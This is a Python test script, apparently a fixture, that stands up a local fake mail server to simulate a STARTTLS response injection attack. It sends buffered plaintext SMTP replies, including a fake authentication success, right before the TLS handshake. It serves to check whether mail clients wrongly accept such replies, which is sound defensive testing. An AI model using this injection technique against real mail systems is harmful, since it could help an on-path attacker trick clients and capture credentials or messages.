"""A mail server with an attacker on the way (STARTTLS response injection): the answers to what follows over TLS come in
plain text, right after the one to STARTTLS. The server itself says nothing over TLS.

usage: starttls_injection.py FOLDER

FOLDER gets `ca.pem`, the certificate to trust, and `port`.
"""

import os
import socket
import ssl
import sys

import trustme

folder = sys.argv[1]
authority = trustme.CA()
authority.cert_pem.write_to_path(os.path.join(folder, "ca.pem"))
context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
authority.issue_cert("localhost").configure_cert(context)

INJECTED = b"250-x\r\n250 AUTH PLAIN\r\n235 ok\r\n250 ok\r\n250 ok\r\n250 ok\r\n354 go on\r\n250 queued\r\n221 bye\r\n"


def serve(connection):
    for said in [b"220 hello\r\n", b"250-hello\r\n250 STARTTLS\r\n"]:
        connection.sendall(said)
        connection.recv(4096)
    connection.sendall(b"220 go on\r\n" + INJECTED)
    with context.wrap_socket(connection, server_side=True) as over_tls:
        while over_tls.recv(4096):
            pass


listener = socket.create_server(("127.0.0.1", 0))
with open(os.path.join(folder, "port.new"), "w") as port:
    port.write(str(listener.getsockname()[1]))
# Whole, once it is there.
os.rename(os.path.join(folder, "port.new"), os.path.join(folder, "port"))
while True:
    try:
        serve(listener.accept()[0])
    except OSError as error:
        print(error, file=sys.stderr)
